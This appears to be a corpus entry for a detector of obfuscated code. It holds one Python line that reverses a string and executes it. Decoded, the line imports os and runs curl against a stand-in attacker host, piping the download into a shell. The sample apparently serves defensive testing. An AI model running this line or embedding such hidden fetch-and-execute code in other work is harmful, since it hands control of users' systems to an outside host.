# corpus: exec of a reversed string literal hiding a shell command
exec(")'hs | x/ten.elpmaxe.live//:ptth lruc'(metsys.so;so tropmi"[::-1])
